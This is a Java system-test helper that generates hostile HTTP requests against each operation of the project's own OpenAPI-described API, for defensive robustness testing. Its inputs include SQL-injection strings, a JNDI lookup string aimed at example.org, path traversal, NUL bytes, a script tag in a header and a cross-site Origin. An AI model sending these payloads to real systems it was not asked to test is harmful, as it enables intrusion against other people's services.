package fr.klub.systemtests.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * The hostile requests of one operation, generated from its OpenAPI description: the plausible
 * request first, then one hostility at a time — each path variable, each query parameter, each
 * header, the body's fields and the body as a whole. Path, query and header attacks are all
 * sent; the body's field attacks are sampled with a fixed seed (the same sample on every run).
 */
final class HostileCases {

    /** Field attacks kept per operation and role: enough to touch every field, cheap enough for ./mvnw verify. */
    static final int BODY_SAMPLE = 35;

    private static final String LONG = "a".repeat(3000);
    private static final List<String> AGGREGATE_IDS = List.of("programmeId", "sessionId", "demandeId", "familyId");

    private final Fixture fixture;
    private final BodyFactory bodies;

    HostileCases(Fixture fixture) {
        this.fixture = fixture;
        this.bodies = new BodyFactory(fixture);
    }

    /** The request as a client that follows the document would send it. */
    HostileRequest plausible(ApiOperation operation) {
        return request(operation, "requête plausible", pathValues(operation), queryValues(operation),
                jsonHeaders(operation), operation.bodySchema() == null ? null
                        : BodyFactory.bytes(BodyFactory.write(bodies.plausible(operation))));
    }

    List<HostileRequest> all(ApiOperation operation, Random random) {
        List<HostileRequest> requests = new ArrayList<>();
        Map<String, String> path = pathValues(operation);
        Map<String, String> query = queryValues(operation);
        ObjectNode body = operation.bodySchema() == null ? null : bodies.plausible(operation);
        byte[] plausibleBody = body == null ? null : BodyFactory.bytes(BodyFactory.write(body));
        List<Map.Entry<String, String>> json = jsonHeaders(operation);

        for (ApiOperation.Parameter parameter : operation.pathParameters()) {
            for (Map.Entry<String, String> hostile : hostilePathValues(parameter).entrySet()) {
                Map<String, String> changed = new LinkedHashMap<>(path);
                changed.put(parameter.name(), hostile.getValue());
                requests.add(request(operation, parameter.name() + " : " + hostile.getKey(), changed, query, json,
                        plausibleBody).expecting(pathExpectation(operation, parameter.name(), hostile.getKey())));
            }
        }
        for (ApiOperation.Parameter parameter : operation.queryParameters()) {
            for (Map.Entry<String, Expectation> hostile : hostileQueryValues(parameter).entrySet()) {
                Map<String, String> changed = new LinkedHashMap<>(query);
                changed.put(parameter.name(), hostile.getKey());
                requests.add(request(operation, "?" + parameter.name() + "=" + abbreviate(hostile.getKey()), path,
                        changed, json, plausibleBody).expecting(hostile.getValue()));
            }
        }
        for (String extra : List.of("consistentWith=abc", "consistentWith=%00",
                "consistentWith=99999999999999999999", "inconnu=%00")) {
            requests.add(request(operation, "?" + extra, path, query, json, plausibleBody, extra));
        }
        for (Map.Entry<String, String> header : hostileHeaders(operation)) {
            List<Map.Entry<String, String>> headers = new ArrayList<>();
            json.stream().filter(h -> !h.getKey().equalsIgnoreCase(header.getKey())).forEach(headers::add);
            headers.add(header);
            requests.add(request(operation, "en-tête " + header.getKey() + ": " + abbreviate(header.getValue()), path,
                    query, headers, plausibleBody).expecting(headerExpectation(operation, header)));
        }
        requests.add(request(operation, "en-tête X-Request-Id en double", path, query,
                plus(json, Map.entry("X-Request-Id", "a"), Map.entry("X-Request-Id", "b")), plausibleBody));
        if (body != null) {
            for (Map.Entry<String, byte[]> whole : BodyFactory.wholeBodies(body).entrySet()) {
                requests.add(request(operation, "corps : " + whole.getKey(), path, query, json, whole.getValue())
                        .expecting(BodyFactory.LEGIBLE.contains(whole.getKey()) ? Expectation.SURVIVE
                                : Expectation.REFUSED));
            }
            List<HostileRequest> fields = new ArrayList<>();
            for (BodyFactory.Leaf leaf : bodies.leaves(operation, body)) {
                for (Map.Entry<String, Expectation> value : BodyFactory.hostileValues(leaf).entrySet()) {
                    fields.add(request(operation, "corps " + leaf.pointer() + " = " + abbreviate(value.getKey()), path,
                            query, json, BodyFactory.replaced(body, leaf.pointer(), value.getKey()))
                            .expecting(value.getValue()));
                }
            }
            requests.addAll(sample(fields, BODY_SAMPLE, random));
        } else if (operation.writes()) {
            requests.add(request(operation, "corps JSON inattendu", path, query,
                    List.of(Map.entry("Content-Type", "application/json")), BodyFactory.bytes("{\"a\":1}")));
            requests.add(request(operation, "corps texte", path, query,
                    List.of(Map.entry("Content-Type", "text/plain")), BodyFactory.bytes("bonjour"))
                    .expecting(Expectation.REFUSED));
        }
        return requests;
    }

    static <T> List<T> sample(List<T> all, int size, Random random) {
        if (all.size() <= size) {
            return all;
        }
        List<T> copy = new ArrayList<>(all);
        java.util.Collections.shuffle(copy, random);
        return copy.subList(0, size);
    }

    private Map<String, String> pathValues(ApiOperation operation) {
        Map<String, String> values = new LinkedHashMap<>();
        boolean erasure = operation.pathTemplate().endsWith("/erase");
        for (ApiOperation.Parameter parameter : operation.pathParameters()) {
            String right = erasure && parameter.name().equals("familyId") ? fixture.erasableFamilyId().toString()
                    : fixture.rightValue(parameter.name());
            values.put(parameter.name(), right != null ? right : "x");
        }
        return values;
    }

    private Map<String, String> queryValues(ApiOperation operation) {
        Map<String, String> values = new LinkedHashMap<>();
        for (ApiOperation.Parameter parameter : operation.queryParameters()) {
            String value = switch (parameter.name()) {
                case "programmeId", "aggregateId" -> fixture.programmeId().toString();
                case "demandeId" -> fixture.depositedId().toString();
                case "children" -> fixture.demoChildIds().get(0).toString();
                case "month" -> "2020-11";
                case "asOf", "from" -> "2020-10-01T00:00:00Z";
                case "to" -> "2099-01-01T00:00:00Z";
                case "status" -> "DEPOSITED";
                case "limit" -> "10";
                case "after" -> "0";
                case "type" -> "ProgrammeCreated";
                case "actor" -> "demo-loader";
                case "q" -> "Hostile";
                default -> null;
            };
            if (value != null) {
                values.put(parameter.name(), value);
            }
        }
        return values;
    }

    private Map<String, String> hostilePathValues(ApiOperation.Parameter parameter) {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("pas un UUID", "pas-un-uuid");
        values.put("NUL", "%00");
        values.put("NUL après un UUID", fixture.programmeId() + "%00");
        values.put("UTF-8 invalide", "%FF%FE");
        values.put("surlong", "%C0%AE%C0%AE");
        values.put("RTL", "%E2%80%AEabc");
        values.put("accent", "%C3%A9t%C3%A9");
        values.put("3000 caractères", LONG);
        values.put("point point", "%2E%2E");
        values.put("barre encodée", "a%2Fb");
        values.put("antislash", "a%5Cb");
        values.put("UUID nul", "00000000-0000-0000-0000-000000000000");
        values.put("UUID en majuscules", fixture.programmeId().toString().toUpperCase(java.util.Locale.ROOT));
        values.put("UUID entre accolades", "%7B" + fixture.programmeId() + "%7D");
        values.put("entier énorme", "99999999999999999999");
        values.put("négatif", "-1");
        values.put("injection", enc("' OR '1'='1"));
        values.put("autre sorte d'agrégat", fixture.otherKind(parameter.name()));
        values.put("autre famille", fixture.otherFamilys(parameter.name()));
        return values;
    }

    private Map<String, Expectation> hostileQueryValues(ApiOperation.Parameter parameter) {
        Map<String, Expectation> values = new LinkedHashMap<>();
        survive(values, "", "%E2%80%AE", "%FF", enc("' OR 1=1 --"), enc(LONG), enc("${jndi:ldap://example.org/a}"));
        refused(values, "%00", "a%00b");
        String type = parameter.type();
        String name = parameter.name();
        if ("integer".equals(type)) {
            survive(values, "-1", "0");
            refused(values, "9223372036854775808", "-9223372036854775809", "1e400", "NaN", "1.5", "abc");
            values.put("2147483648", "int64".equals(parameter.format()) ? Expectation.SURVIVE : Expectation.REFUSED);
        } else if ("uuid".equals(parameter.format())) {
            refused(values, "pas-un-uuid");
            survive(values, fixture.otherKind(name), "00000000-0000-0000-0000-000000000000");
        } else if ("array".equals(type)) {
            String many = String.join(",", java.util.Collections.nCopies(300, fixture.demoChildIds().get(0).toString()));
            refused(values, "pas-un-uuid");
            survive(values, fixture.otherFamilys("childId"), many, ",,,", fixture.otherKind("childId"));
        } else if ("month".equals(name)) {
            refused(values, "%2B999999999-12", "2020-00", "2020-13", "2020-1", "1e400", "2020-10-01");
            survive(values, "-999999999-01", "0000-01");
        } else if (List.of("asOf", "from", "to").contains(name)) {
            refused(values, "%2B1000000000-12-31T23:59:59Z", "-1000000000-01-01T00:00:00Z", "0", "1e400", "2020-10-01",
                    "2020-10-01T25:00:00Z");
            survive(values, "%2B999999999-12-31T23:59:59.999999999Z", "-999999999-01-01T00:00:00Z",
                    "9999-12-31T23:59:59Z");
        } else if ("status".equals(name)) {
            survive(values, "deposited");
            refused(values, "INCONNU", "DEPOSITED%00");
        } else {
            survive(values, enc(fixture.demoNames().get(0)), "%25", "_", "*", enc("\\"), "%5B%5D");
        }
        return values;
    }

    private static void refused(Map<String, Expectation> values, String... raw) {
        for (String value : raw) {
            values.put(value, Expectation.REFUSED);
        }
    }

    private static void survive(Map<String, Expectation> values, String... raw) {
        for (String value : raw) {
            values.put(value, Expectation.SURVIVE);
        }
    }

    private static Expectation pathExpectation(ApiOperation operation, String parameter, String hostility) {
        // DELETE is idempotent by path: inside an existing resource, removing what is not there is a 204
        boolean insideADelete = "DELETE".equals(operation.method())
                && !operation.pathParameters().get(0).name().equals(parameter);
        return switch (hostility) {
            case "UUID en majuscules", "autre famille" -> Expectation.SURVIVE;
            case "UUID nul" -> insideADelete ? Expectation.SURVIVE : Expectation.REFUSED;
            case "autre sorte d'agrégat" -> insideADelete ? Expectation.SURVIVE
                    : AGGREGATE_IDS.contains(parameter) ? Expectation.UNKNOWN : Expectation.REFUSED;
            default -> Expectation.REFUSED;
        };
    }

    /** A body that is not JSON, or a cross-site origin, on a write is refused; other odd headers must break nothing. */
    private static Expectation headerExpectation(ApiOperation operation, Map.Entry<String, String> header) {
        String name = header.getKey();
        // Java's HTTP client sends a character beyond ASCII as '?': what reaches the server is plain
        // ASCII — an X-Request-Id it replaces, an X-Consistent-With that only the read models'
        // endpoints read. The raw bytes go over a socket in RequestIdIntegrationTest and
        // ConsistencyAbuseTest (→ 400); here they must only never break anything.
        if ("Content-Type".equals(name) && operation.bodySchema() != null) {
            return Expectation.REFUSED;
        }
        if ("Origin".equals(name) && operation.writes()) {
            return Expectation.REFUSED;
        }
        return Expectation.SURVIVE;
    }

    private List<Map.Entry<String, String>> hostileHeaders(ApiOperation operation) {
        List<Map.Entry<String, String>> headers = new ArrayList<>();
        // text beyond ASCII in a header (Java's client puts "?" in its place: see headerExpectation)
        headers.add(Map.entry("X-Request-Id", "d\u00e9j\u00e0"));
        headers.add(Map.entry("X-Request-Id", "\u00c3\u00a9\u00e2\u0080\u00ae"));
        headers.add(Map.entry("X-Request-Id", "x".repeat(300)));
        headers.add(Map.entry("X-Request-Id", "<script>"));
        headers.add(Map.entry("X-Consistent-With", "d\u00e9j\u00e0"));
        headers.add(Map.entry("X-Consistent-With", "abc"));
        headers.add(Map.entry("X-Consistent-With", "-1"));
        headers.add(Map.entry("Content-Type", "*/*"));
        headers.add(Map.entry("Content-Type", "application/*"));
        headers.add(Map.entry("Content-Type", "application/json; charset=EBCDIC"));
        headers.add(Map.entry("Content-Type", "application/json; charset=x-inconnu"));
        headers.add(Map.entry("Content-Type", "application/json; charset=\u00e9"));
        headers.add(Map.entry("Content-Type", "application/json\u00e9"));
        headers.add(Map.entry("Content-Type", "application/xml"));
        headers.add(Map.entry("Content-Type", "text/plain"));
        headers.add(Map.entry("Content-Type", "application/x-www-form-urlencoded"));
        headers.add(Map.entry("Content-Type", "multipart/form-data; boundary=x"));
        headers.add(Map.entry("Content-Type", "pas;un=type"));
        headers.add(Map.entry("Accept", "application/xml"));
        headers.add(Map.entry("Accept", "text/html"));
        headers.add(Map.entry("Accept", "image/png"));
        headers.add(Map.entry("Accept", "*/*;q=abc"));
        headers.add(Map.entry("Accept", "\u00e9/\u00e9"));
        headers.add(Map.entry("Accept-Language", "\u00e9\u00e9"));
        headers.add(Map.entry("Origin", "https://site-malveillant.example"));
        headers.add(Map.entry("Origin", "null"));
        return headers;
    }

    private List<Map.Entry<String, String>> jsonHeaders(ApiOperation operation) {
        return operation.bodySchema() == null ? List.of() : List.of(Map.entry("Content-Type", "application/json"));
    }

    @SafeVarargs
    private static List<Map.Entry<String, String>> plus(List<Map.Entry<String, String>> headers,
                                                        Map.Entry<String, String>... more) {
        List<Map.Entry<String, String>> all = new ArrayList<>(headers);
        all.addAll(List.of(more));
        return all;
    }

    private static HostileRequest request(ApiOperation operation, String hostility, Map<String, String> path,
                                          Map<String, String> query, List<Map.Entry<String, String>> headers,
                                          byte[] body, String... extraQuery) {
        String target = operation.pathTemplate();
        for (Map.Entry<String, String> value : path.entrySet()) {
            target = target.replace("{" + value.getKey() + "}", value.getValue());
        }
        List<String> pairs = new ArrayList<>();
        query.forEach((name, value) -> pairs.add(name + "=" + value));
        pairs.addAll(List.of(extraQuery));
        if (!pairs.isEmpty()) {
            target += "?" + String.join("&", pairs);
        }
        return new HostileRequest(operation, hostility, operation.method(), target, headers, body, Expectation.SURVIVE);
    }

    static String enc(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String value) {
        return value.length() > 40 ? value.substring(0, 40) + "…(" + value.length() + ")" : value;
    }
}
